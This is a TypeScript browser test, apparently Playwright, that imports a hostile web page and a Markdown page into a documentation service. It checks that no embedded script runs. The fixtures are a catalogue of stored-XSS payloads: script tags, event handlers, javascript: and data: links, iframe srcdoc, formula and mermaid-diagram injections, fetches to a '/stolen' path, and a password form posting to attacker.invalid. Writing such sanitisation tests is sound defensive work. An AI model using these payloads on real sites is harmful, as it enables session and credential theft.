import { paths } from "#console/paths.ts";
import { edit, makeDraft } from "./support/content.ts";
import { expect, test } from "./support/fixtures.ts";

declare global {
  // Set by a script in the content, if one ever runs.
  var attacked: string | undefined;
}

const attack = (how: string) => `globalThis.attacked='${how}';fetch('/stolen?${how}')`;

const page = (title: string, body: string) =>
  `<!doctype html><html><head><title>${title}</title></head><body><main><h1>${title}</h1>${body}</main></body></html>`;

const hostile = page(
  "Hostile",
  `<p>Text before.</p>
   <script>${attack("script")}</script>
   <img src="/missing.png" alt="Broken" onerror="${attack("onerror")}">
   <svg onload="${attack("svg")}"><script>${attack("svg-script")}</script></svg>
   <iframe srcdoc="<script>parent.attacked='iframe'</script>"></iframe>
   <p><a href="javascript:${attack("link")}">Press me</a></p>
   <p><a href="data:text/html,<script>opener.attacked='data'</script>">And me</a></p>
   <p onclick="${attack("onclick")}">Click here</p>
   <form action="https://attacker.invalid/"><input name="password"><button>Sign in</button></form>
   <style>body { display: none }</style>
   <p>Text after.</p>`,
);

/** The same as Markdown, which the service stores as written. */
const markdown = `Text before.

<script>${attack("markdown-script")}</script>

<img src="x" onerror="${attack("markdown-onerror")}">

<details open ontoggle="${attack("toggle")}"><summary>More</summary>Inside</details>

[Press me](javascript:${attack("markdown-link").replaceAll("(", "%28").replaceAll(")", "%29")})

![Picture](javascript:alert)

{% embed url="javascript:attacked" %}

$$\\href{javascript:${attack("formula-link")}}{Formula}$$ $$\\text{<img src=x onerror="${attack("formula")}">}$$

<a href="javascript:${attack("button")}" class="button primary">Press this</a>

<table data-view="cards"><thead><tr><th></th><th data-hidden data-card-target></th></tr></thead><tbody><tr><td>Card here</td><td><a href="javascript:${attack("card")}">x</a></td></tr></tbody></table>

<mark style="color:red;background-image:url(/stolen?style)">Styled</mark>

\`\`\`mermaid
%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%
graph TD
  A["<img src=x onerror=${attack("label").replaceAll("'", "")}>"] --> B[Drawn]
  click B call attacked()
  click A "javascript:${attack("node").replaceAll("'", "")}"
\`\`\`

Text after.`;

test("scripts of imported and written pages never run, neither in the review nor in the reader", async ({
  page: browser,
  api,
  organization,
  serveSite,
  consoleLog,
}) => {
  // The content refers to missing images.
  consoleLog.expect("Failed to load resource");
  consoleLog.expect("Content Security Policy");
  const stolen: string[] = [];
  browser.on("request", (request) => {
    if (/stolen|attacker/.test(request.url())) stolen.push(request.url());
  });
  const site = await serveSite({ "/": hostile });
  const space = await api("POST /v1/orgs/{organizationId}/spaces", {
    params: { organizationId: organization.id },
    body: { title: "Hostile", empty: true },
  });
  const draft = await makeDraft(api, space.id, "From outside");
  const inDraft = "/v1/spaces/{spaceId}/change-requests/{changeRequestId}";
  await api(`POST ${inDraft}/content/import`, {
    params: draft,
    body: { url: `${site.url}/`, source: "website" },
  });
  await edit(api, draft, [{ operation: "insert_page", title: "Written", document: { markdown } }]);
  const { changes } = await api(`GET ${inDraft}/changes`, { params: draft, query: {} });
  const pages = changes.flatMap((change) => (change.page === undefined ? [] : [change.page]));
  expect(pages.map(({ title }) => title)).toEqual(["Hostile", "Written"]);

  const look = async (address: string) => {
    await browser.goto(address);
    const main = browser.getByRole("main");
    await expect(main.getByText("Text before.")).toBeVisible();
    await expect(main.getByText("Text after.")).toBeVisible();
    for (const words of ["Press me", "And me", "Click here", "Press this", "Card here"]) {
      const target = main.getByText(words).first();
      if (await target.isVisible()) await target.click();
    }
    if (await main.getByText("Styled").isVisible()) {
      await main.getByText("Styled").scrollIntoViewIfNeeded();
      await expect(main.getByRole("img", { name: "Diagram" })).toBeVisible();
    }
    for (const frame of browser.frames()) {
      expect(await frame.evaluate(() => globalThis.attacked)).toBeUndefined();
    }
    expect(
      await main.locator("script, iframe, form, [onerror], [onclick], [ontoggle]").count(),
    ).toBe(0);
    expect(
      await main.locator("[href^='javascript:'], [src^='javascript:'], [href^='data:']").count(),
    ).toBe(0);
    expect(new URL(browser.url()).pathname).toBe(new URL(address, browser.url()).pathname);
  };
  for (const { id } of pages) {
    await look(paths.changeRequest(organization.id, space.id, 1, "changes", { page: id }));
  }
  await api(`POST ${inDraft}/merge`, { params: draft });
  for (const { id } of pages) await look(paths.page(organization.id, space.id, id));
  expect(stolen).toEqual([]);
});
